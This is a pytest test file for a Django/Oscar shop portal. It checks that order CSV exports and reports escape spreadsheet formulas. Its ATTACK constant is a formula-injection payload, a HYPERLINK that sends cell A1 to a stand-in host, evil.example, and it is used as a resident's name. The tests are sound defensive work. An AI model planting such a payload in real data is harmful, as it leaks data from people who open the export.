"""No CSV the portal serves lets a resident's or a merchant's text run as a spreadsheet
formula: Oscar's order export and its reports go through catalog.spreadsheet too (the
console's and the catalogue's exports are checked in their own tests)."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_class, get_model
from oscar.test.factories import create_order

from tests.factories import ProductFactory, StockRecordFactory

pytestmark = pytest.mark.django_db

Basket = get_model("basket", "Basket")
Strategy = get_class("partner.strategy", "Default")
ShippingAddress = get_model("order", "ShippingAddress")
Country = get_model("address", "Country")

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


@pytest.fixture
def superuser_client(client):
    admin = get_user_model().objects.create_superuser(
        username="admin", email="admin@example.fr", password="x"
    )
    client.force_login(admin)
    return client


@pytest.fixture
def attacking_order():
    country, _ = Country.objects.get_or_create(
        iso_3166_1_a2="FR", defaults={"name": "France", "printable_name": "France"}
    )
    resident = get_user_model().objects.create_user(
        username="resident", email="resident@example.fr", first_name=ATTACK, last_name="-1"
    )
    address = ShippingAddress.objects.create(
        first_name=ATTACK,
        last_name="+33",
        line1="1 rue",
        line4="Aix",
        postcode="73100",
        country=country,
    )
    from shops.services import basket_offer_add

    basket = Basket.objects.create()
    basket.strategy = Strategy()
    offer = StockRecordFactory(product=ProductFactory())
    basket_offer_add(basket=basket, stockrecord=offer, quantity=1)
    return create_order(basket=basket, user=resident, shipping_address=address)


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_dashboard_order_export_writes_no_live_formula(superuser_client, attacking_order):
    response = superuser_client.get(reverse("dashboard:order-list"), {"response_format": "csv"})
    rows = _rows(response)
    assert response.status_code == 200 and len(rows) == 2
    assert rows[1][6] == f"'{ATTACK} +33"  # "Deliver to name", from the resident's address
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


def test_the_order_report_writes_no_live_formula(superuser_client, attacking_order):
    today = timezone.localdate()
    response = superuser_client.get(
        reverse("dashboard:reports-index"),
        {
            "report_type": "order_report",
            "date_from": (today - datetime.timedelta(days=1)).isoformat(),
            "date_to": (today + datetime.timedelta(days=1)).isoformat(),
            "download": "true",
        },
    )
    rows = _rows(response)
    assert response.status_code == 200 and len(rows) == 2
    assert rows[1][1] == f"'{ATTACK} -1"
    assert rows[1][3].replace(".", "").isdigit()  # the total stays a number
